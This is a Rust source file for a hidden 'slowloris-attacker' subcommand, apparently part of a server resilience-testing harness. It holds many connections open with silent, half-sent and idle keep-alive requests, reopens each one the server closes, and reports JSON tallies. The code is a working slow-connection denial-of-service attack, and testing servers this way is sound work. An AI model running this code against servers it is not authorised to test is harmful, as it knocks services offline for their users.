//! The hidden `slowloris-attacker` subcommand: one attacker process of the
//! `slowloris` scenario. Holds `--sockets` sockets to the server from one
//! source address for `--seconds`, a third of each kind (silent, half-sent
//! headers with a byte every few seconds, one request then idle on the
//! kept-alive connection), re-opening each as soon as the server closes it;
//! then prints one JSON [`Tally`] line and exits.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use clap::Args;
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::client::connect_tcp;

/// A half-sent request gets one more header byte this often.
const DRIBBLE_EVERY: Duration = Duration::from_secs(5);
/// A connect that does not complete in this long is counted as failed and tried again.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// One attacker process's share.
#[derive(Debug, Args)]
pub struct AttackerArgs {
    #[arg(long)]
    pub server: SocketAddr,
    #[arg(long)]
    pub source: Ipv4Addr,
    #[arg(long)]
    pub sockets: usize,
    #[arg(long)]
    pub seconds: f64,
}

/// What an attacker saw.
#[derive(Debug, Default, Serialize, Deserialize)]
pub struct Tally {
    pub connects: u64,
    pub connect_failures: u64,
    /// Sockets the server closed (EOF or reset).
    pub closed: u64,
}

impl Tally {
    pub fn add(&mut self, o: &Tally) {
        self.connects += o.connects;
        self.connect_failures += o.connect_failures;
        self.closed += o.closed;
    }
}

#[derive(Default)]
struct Counts {
    connects: AtomicU64,
    connect_failures: AtomicU64,
    closed: AtomicU64,
}

#[derive(Clone, Copy)]
enum Kind {
    Silent,
    HalfHeaders,
    IdleKeepAlive,
}

/// Runs the process's attack on a runtime of its own; prints its tally.
pub fn run(args: AttackerArgs) -> anyhow::Result<()> {
    raise_nofile();
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let counts = Arc::new(Counts::default());
    let until = Instant::now() + Duration::from_secs_f64(args.seconds);
    rt.block_on(async {
        let mut tasks = Vec::with_capacity(args.sockets);
        for i in 0..args.sockets {
            let kind = [Kind::Silent, Kind::HalfHeaders, Kind::IdleKeepAlive][i % 3];
            tasks.push(tokio::spawn(socket(args.server, args.source, kind, until, counts.clone())));
        }
        for t in tasks {
            let _ = t.await;
        }
    });
    let tally = Tally {
        connects: counts.connects.load(Ordering::Relaxed),
        connect_failures: counts.connect_failures.load(Ordering::Relaxed),
        closed: counts.closed.load(Ordering::Relaxed),
    };
    println!("{}", serde_json::to_string(&tally)?);
    Ok(())
}

/// This process's soft open-file limit raised to its hard one (the parent may have lowered it).
fn raise_nofile() {
    let mut lim = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    // SAFETY: plain system calls on a local struct.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim) == 0 {
            lim.rlim_cur = lim.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
        }
    }
}

/// One attack socket, again and again until `until`.
async fn socket(server: SocketAddr, source: Ipv4Addr, kind: Kind, until: Instant, counts: Arc<Counts>) {
    let until = tokio::time::Instant::from_std(until);
    while tokio::time::Instant::now() < until {
        let Ok(Ok(mut s)) = tokio::time::timeout(CONNECT_TIMEOUT, connect_tcp(server, source)).await else {
            counts.connect_failures.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        counts.connects.fetch_add(1, Ordering::Relaxed);
        let opening: &[u8] = match kind {
            Kind::Silent => b"",
            Kind::HalfHeaders => b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-a: ",
            Kind::IdleKeepAlive => b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n",
        };
        if s.write_all(opening).await.is_err() {
            counts.closed.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        let mut buf = [0u8; 512];
        loop {
            let wait = DRIBBLE_EVERY.min(until.saturating_duration_since(tokio::time::Instant::now()));
            if wait.is_zero() {
                return;
            }
            match tokio::time::timeout(wait, s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => {
                    counts.closed.fetch_add(1, Ordering::Relaxed);
                    break;
                }
                Ok(Ok(_)) => {}
                Err(_) => {
                    if matches!(kind, Kind::HalfHeaders) && s.write_all(b"a").await.is_err() {
                        counts.closed.fetch_add(1, Ordering::Relaxed);
                        break;
                    }
                }
            }
        }
    }
}
